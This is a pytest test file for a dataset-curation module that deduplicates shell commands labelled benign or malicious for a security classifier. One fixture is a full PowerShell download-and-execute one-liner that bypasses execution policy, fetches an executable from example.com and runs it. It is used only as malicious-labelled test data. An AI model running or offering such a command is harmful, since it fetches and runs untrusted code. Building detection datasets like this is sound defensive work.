"""Exact duplicates, label conflicts, near-duplicates (within and across splits)."""

from __future__ import annotations

import json

import pytest

from distilsec.data.curate import curate, drop_cross_split_near_duplicates, shingles
from distilsec.data.example import Example
from distilsec.data.skips import SkipCounter
from distilsec.data.stats import breakdown_counts
from distilsec.errors import ConfigError

LONG = (
    'powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "Invoke-WebRequest -Uri '
    "http://example.com/file.exe -OutFile C:\\Users\\Public\\file.exe; "
    'Start-Process C:\\Users\\Public\\file.exe"'
)
LONG_1CHAR = LONG.replace("-NoProfile", "-NoProfilx")
UNRELATED = "tar czf backup.tar.gz documents && gpg --encrypt --recipient admin backup.tar.gz && rm backup.tar.gz"


def ex(text: str, label: str | None = "benign", source: str = "s", group: str = "") -> Example:
    return Example(text, label, group=group or text.split()[0], source=source, platform="linux")


def test_exact_duplicates_same_label_keep_first() -> None:
    a, b, c = ex("ls -la", source="tldr"), ex("ls   -la", source="nl2bash"), ex("pwd")
    res = curate([a, b, c], near_dup_threshold=None)
    assert res.examples == [a, c]
    assert res.report["exact_duplicates_removed"] == 1
    assert res.removed_ids["exact_duplicate"] == [b.id]
    assert res.report["n_in"] == 3 and res.report["n_out"] == 2


@pytest.mark.parametrize(
    ("policy", "kept_label"), [("drop", None), ("keep_malicious", "malicious"), ("first", "benign")]
)
def test_conflict_policies(policy: str, kept_label: str | None) -> None:
    items = [ex("hostname", "benign", "tldr"), ex("hostname", "malicious", "atomic-red-team"), ex("pwd")]
    res = curate(items, conflict_policy=policy, near_dup_threshold=None)
    kept = [e for e in res.examples if e.text == "hostname"]
    assert [e.label for e in kept] == ([kept_label] if kept_label else [])
    assert res.report["label_conflicts"] == 1
    assert res.report["label_conflict_records_removed"] == (2 if policy == "drop" else 1)
    example = res.report["label_conflict_examples"][0]
    assert example["text"] == "hostname"
    assert example["labels"] == {"benign": ["tldr"], "malicious": ["atomic-red-team"]}


def test_unlabelled_copy_is_not_a_conflict() -> None:
    res = curate([ex("whoami", None), ex("whoami", "malicious")], near_dup_threshold=None)
    assert [e.label for e in res.examples] == ["malicious"]
    assert res.report["label_conflicts"] == 0


def test_bad_policy_and_threshold() -> None:
    with pytest.raises(ConfigError):
        curate([ex("a")], conflict_policy="vote")
    with pytest.raises(ConfigError):
        curate([ex("a")], near_dup_threshold=1.5)


def test_empty_texts_are_counted_skips() -> None:
    skips = SkipCounter()
    res = curate([ex("  ", group="g"), ex("ls")], skips=skips)
    assert len(res.examples) == 1
    assert skips.counts["empty_text"] == 1
    assert res.report["empty_texts_removed"] == 1


def test_near_duplicates_one_char_apart_are_collapsed() -> None:
    from distilsec.data.curate import jaccard

    assert jaccard(shingles(LONG), shingles(LONG_1CHAR)) >= 0.9
    items = [ex(LONG, "malicious", "lolbas"), ex(UNRELATED), ex(LONG_1CHAR, "malicious", "atomic-red-team")]
    res = curate(items)
    assert [e.text for e in res.examples] == [LONG, UNRELATED]
    assert res.report["near_duplicates_removed"] == 1
    assert res.report["near_duplicate_clusters"] == 1
    assert res.report["near_duplicates"]["removed_by_source"] == {"atomic-red-team": 1}


def test_unrelated_and_short_commands_are_not_near_duplicates() -> None:
    items = [ex("ls -la /tmp"), ex("ls -la /var"), ex(LONG, "malicious"), ex(UNRELATED)]
    res = curate(items)
    assert len(res.examples) == 4
    assert res.report["near_duplicates_removed"] == 0


def test_near_duplicates_with_other_label_are_kept_and_reported() -> None:
    res = curate([ex(LONG, "malicious"), ex(LONG_1CHAR, "benign")])
    assert len(res.examples) == 2
    assert res.report["near_duplicates"]["cross_label_near_duplicates_kept"] == 1


def test_report_is_json_and_has_breakdowns() -> None:
    res = curate([ex("ls", "benign", "tldr"), ex("whoami", "malicious", "lolbas")])
    text = json.dumps(res.report)
    assert "counts_in" in text
    assert res.report["counts_out"]["by_source"] == {"lolbas": {"malicious": 1}, "tldr": {"benign": 1}}


def test_breakdown_counts() -> None:
    items = [ex("a", "benign", "tldr"), ex("b", "malicious", "lolbas"), Example("c", None, source="")]
    out = breakdown_counts(items)
    assert out["n"] == 3
    assert out["by_label"] == {"(unlabelled)": 1, "benign": 1, "malicious": 1}
    assert out["by_platform"]["linux"] == {"benign": 1, "malicious": 1}
    assert out["by_source"]["(unknown)"] == {"(unlabelled)": 1}


def test_cross_split_near_duplicates_are_removed_from_val_and_test() -> None:
    train = [ex(LONG, "malicious"), ex("git status")]
    val = [ex(LONG_1CHAR, "malicious"), ex("docker ps -a")]
    test = [ex(LONG_1CHAR, "benign"), ex(UNRELATED), ex("git status")]
    parts = {"val": val, "test": test}
    kept, removed = drop_cross_split_near_duplicates(train, parts, threshold=0.9, num_perm=64)
    assert removed == {"val": 1, "test": 2}
    assert [e.text for e in kept["val"]] == ["docker ps -a"]
    assert [e.text for e in kept["test"]] == [UNRELATED]


def test_cross_split_with_empty_parts() -> None:
    kept, removed = drop_cross_split_near_duplicates([], {"test": [ex("a")]})
    assert removed == {"test": 0} and len(kept["test"]) == 1


def test_shingle_cap_reads_only_the_start_of_long_texts() -> None:
    head = "<html><head>" + "".join(f"<meta name=k{i} content=v{i}>" for i in range(200))
    a = ex(head + " ".join(f"weather{i} report{i * 7}" for i in range(600)))
    b = ex(head + " ".join(f"football{i} market{i * 3}" for i in range(600)))
    assert len(head) > 4000
    whole = curate([a, b], near_dup_threshold=0.9)
    capped = curate([a, b], near_dup_threshold=0.9, shingle_max_chars=3000)
    assert whole.report["near_duplicates_removed"] == 0
    assert capped.report["near_duplicates_removed"] == 1  # the same first 3,000 characters
    assert "first 3000 characters" in capped.report["near_duplicates"]["shingle"]
    kept, removed = drop_cross_split_near_duplicates([a], {"test": [b]}, shingle_max_chars=3000)
    assert removed == {"test": 1} and kept["test"] == []
    # short texts do not change meaning under a cap
    assert shingles(LONG, max_chars=65536) == shingles(LONG)


def test_skip_counter_notes_are_not_skips() -> None:
    skips = SkipCounter()
    skips.note("page_truncated", "a.html")
    skips.skip("empty_page", "b.html")
    assert skips.total == 1 and skips.as_dict() == {"empty_page": 1}
    assert skips.notes_dict() == {"page_truncated": 1}
